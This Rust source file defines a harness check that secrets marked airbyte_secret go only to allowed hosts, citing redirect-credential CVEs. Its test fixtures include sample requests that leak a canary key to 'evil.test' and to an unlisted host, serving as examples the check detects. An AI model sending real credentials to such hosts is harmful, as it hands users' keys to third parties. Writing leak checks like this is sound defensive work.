use super::{Check, Group, Level};
use crate::evidence::Evidence;
use crate::verdict::{Finding, Verdict};

pub(super) const CHECK: Check = Check {
    id: "secrets_go_to_allowed_hosts",
    level: Level::Must,
    group: Group::Secrets,
    requirement: "A value that the spec marks airbyte_secret is sent to the hosts of `allowed_hosts` alone, and where \
                  harness.toml has `secret_hosts`, to those of them alone: in no URL, header or body of a request to \
                  another host, in whatever guise.",
    why: "A client that follows a redirect or a link of an answer and takes its header of authorization along hands the \
          key to whoever that host belongs to, such as the storage that a report is downloaded from.",
    source: "Ours, after CVE-2018-18074 and CVE-2022-27774: clients that kept credentials on a redirect.",
    judge,
    condemns: &[
        "# spec {\"properties\":{\"key\":{\"airbyte_secret\":true}}}\n# config {\"key\":\"canary-7f3a\"}\n# settings allowed_hosts = [\"api.test\"]\n$ read\n> GET https://api.test/?key=canary-7f3a\n> GET https://evil.test/?key=canary-7f3a",
        "# spec {\"properties\":{\"key\":{\"airbyte_secret\":true}}}\n# config {\"key\":\"canary-7f3a\"}\n# settings allowed_hosts = [\"*.test\"]\n# settings secret_hosts = [\"api.test\"]\n$ read\n> GET https://files.test/1?auth=canary%2D7f3a",
    ],
    acquits: &[
        "# spec {\"properties\":{\"key\":{\"airbyte_secret\":true}}}\n# config {\"key\":\"canary-7f3a\"}\n# settings allowed_hosts = [\"*.test\"]\n# settings secret_hosts = [\"api.test\"]\n$ read\n> GET https://api.test/?key=canary-7f3a\n> GET https://files.test/1",
    ],
};

fn judge(evidence: &Evidence) -> Verdict {
    let hosts = &evidence.hosts;
    if !hosts.speak_of_secrets() {
        return Verdict::Skip { reason: "nothing says which hosts may be sent a secret".to_owned() };
    }
    let mut findings = Vec::new();
    let mut judged = false;
    for run in &evidence.runs {
        let origins = run.requests.origins.iter().filter(|(_, sent)| sent.with_secret > 0);
        for (origin, sent) in origins {
            judged = true;
            if !hosts.allow_secrets(&origin.host) {
                let want =
                    format!("the secret {} sent to no host but {}", sent.fields(), hosts.secret_names());
                let finding = Finding::new(want, origin.url()).by(&run.transcript);
                let next = "does it follow a redirect or a link with its own headers? If that host needs the secret, allow it";
                findings.push(Finding { times: sent.with_secret, ..finding.next(next) });
            }
        }
    }
    Verdict::of(findings, judged, "no request carried a secret")
}
